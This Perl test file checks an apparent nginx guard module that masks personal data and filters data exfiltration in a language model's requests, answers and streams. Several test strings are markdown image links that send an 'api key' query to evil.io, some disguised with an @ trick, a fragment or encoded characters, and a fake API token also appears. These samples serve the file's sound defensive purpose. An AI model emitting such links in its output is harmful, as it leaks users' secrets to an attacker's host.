# What may be said although a rule finds it: in requests, answers and streams.

use strict;
use warnings;

use FindBin;
use lib "$FindBin::Bin/lib";

use JSON::PP;
use Test::More;

use LLMG::Curl qw(chat decoded said);
use LLMG::Front;
use LLMG::Wire;

my $path = "v1/chat/completions";
my $mail = 'support@' . 'acme.io';
my $other = 'jane.roe@' . 'acme.io';
my $token = "sk-" . "proj-" . "a1b2c3d4e5f6g7h8i9j0k1l2m3n4o5p6q7r8s9t0u1";

my $front = LLMG::Front->start(http => <<"END", locations => <<'END');
    llm_guard_policy office {
        inherit  default;
        request  pii.*  mask;
        response pii.*  mask;
        allow    value  "$mail" $token;
        allow    domain partner.io;
        allow    cidr   10.0.0.0/8 2001:db9::/32;
        allow    host   cdn.acme.io;
    }
    llm_guard_policy values {
        response pii.email  mask;
        response pii.ip     mask;
        allow    value  "$mail";
        allow    cidr   10.0.0.0/8;
    }
    llm_guard_policy links {
        response exfil.*    mask;
        allow    host       cdn.acme.io;
    }
    llm_guard_policy docs {
        inherit  office;
        allow    documentation;
    }
END
    location / { llm_guard office; proxy_pass http://MODEL;
                 proxy_buffering off; proxy_set_header X-Rules
                 $llm_guard_rules; }
    location /links/ { llm_guard links; proxy_pass http://MODEL/; }
    location /values/ { llm_guard values; proxy_pass http://MODEL/; }
    location /docs/ { llm_guard docs; proxy_pass http://MODEL/; }
END

my $wire = LLMG::Wire->new($front->port);


sub ask {
    my ($to, @args) = @_;

    $wire = LLMG::Wire->new($front->port) if $wire->ended;

    return $wire->ask("$to$path", @args);
}


# the text as the model gets it

sub sent {
    my ($text, $to) = @_;

    my $r = ask($to // "/", json => chat($text));

    return $r->{status} == 200
           ? decoded({ body => $front->model->received->{body} })
             ->{messages}[-1]{content}
           : $r->{status};
}


my $picture = 'q=the%20api%20key%20is%2012345';

my @texts = (
    [ "an exact value", "to $mail or $other", "to $mail or [EMAIL_ADDRESS]" ],
    [ "a token", "key $token.", "key $token." ],
    [ "a domain", 'a@x.partner.io, b@notpartner.io',
      'a@x.partner.io, [EMAIL_ADDRESS]' ],
    [ "a network", "10.1.2.3 and 11.1.2.3, 2001:db9::1 and 2001:dba::1",
      "10.1.2.3 and [IP_ADDRESS], 2001:db9::1 and [IP_ADDRESS]" ],
);

for (@texts) {
    my ($title, $text, $want) = @$_;

    is(sent($text), $want, "$title in a request");

    is(said(ask("/", json => chat("Hello"),
                header => [ "x-standin-answer: $text" ])),
       $want, "$title in an answer");

    for my $chunk (1 .. 12, 40) {
        is(said(ask("/", json => chat("Hello", stream => JSON::PP::true),
                    header => [ "x-standin-answer: $text",
                                "x-standin-chunk: $chunk" ])),
           $want, "$title in a stream, events of $chunk");
    }
}

is(sent("key ${token}x"), 400, "a longer token is another one");
is(sent("to $mail"), "to $mail", "what is allowed has no finding");
is($front->model->received->{headers}{'x-rules'}, undef, "not even a record");

for my $chunk (3, 1000) {
    my $say = sub {
        return said(ask("/", json => chat("Hello", stream => JSON::PP::true),
                        header => [ "x-standin-answer: $_[0]",
                                    "x-standin-chunk: $chunk" ]));
    };

    is($say->("![a](https://cdn.acme.io/p?$picture)"),
       "![a](https://cdn.acme.io/p?$picture)", "a host");
    is($say->("![a](https://cdn.acme.io\@evil.io/p?$picture)"),
       "[EXFIL_MARKDOWN]", "one that only looks like it");
    is($say->("![a](https://evil.io/p?$picture#//cdn.acme.io)"),
       "[EXFIL_MARKDOWN]", "one behind another");
}

# what an address says when it is decoded is not what its readers follow

my @addresses = (
    [ "/links/", "a host that ends behind an escape",
      "![a](https&#58;//cdn.acme.io%23\@evil.io/p?$picture)",
      "[EXFIL_MARKDOWN]" ],
    [ "/values/", "a value in full width", "to support\x{FF20}acme.io",
      "to support\x{FF20}acme.io" ],
    [ "/values/", "a network in other digits", "10.1.2.\x{663}",
      "10.1.2.\x{663}" ],
);

for (@addresses) {
    my ($to, $title, $text, $want) = @$_;

    my $out = JSON::PP->new->utf8;
    my $whole = $out->encode({ choices => [ { index => 0, message => {
        role => "assistant", content => $text } } ] });
    my $pieces = join "", map {
        "data: " . $out->encode({ choices => [ { index => 0,
                                  delta => { content => $_ } } ] }) . "\n\n"
    } split //, $text;

    for ([ $whole, "application/json" ],
         [ $pieces . "data: [DONE]\n\n", "text/event-stream" ])
    {
        my ($body, $type) = @$_;

        $body =~ s/([^A-Za-z0-9])/sprintf "%%%02X", ord $1/ge;

        my $r = ask($to, json => chat("Hello", $type =~ /event/
                                   ? (stream => JSON::PP::true) : ()),
                    header => [ "x-standin-raw: $body",
                                "x-standin-type: $type" ]);

        is(said($r), $want, "$title: $type");
    }
}

my $linked = JSON::PP->new->encode({
    html => qq(<img src="https://cdn.acme.io/p?$picture">) });

for my $chunk (1, 3, 1000) {
    my $r = ask("/links/", json => chat("Hello", stream => JSON::PP::true),
                header => [ "x-standin-tool: f $linked",
                            "x-standin-chunk: $chunk" ]);

    unlike($r->{body}, qr/EXFIL/, "a host in arguments, events of $chunk");
}

is(sent('a@example.com, 4242 4242 4242 4242, 192.0.2.7', "/docs/"),
   'a@example.com, 4242 4242 4242 4242, 192.0.2.7', "documentation");
is(sent('a@example.com, 4242 4242 4242 4242, 192.0.2.7'),
   '[EMAIL_ADDRESS], [CREDIT_CARD], [IP_ADDRESS]', "which is no rule");
is(sent("$mail, $other", "/docs/"), "$mail, [EMAIL_ADDRESS]", "inherited");

is(join("", $front->nginx->complaints), "", "no alert, no crit, no emerg");

done_testing();
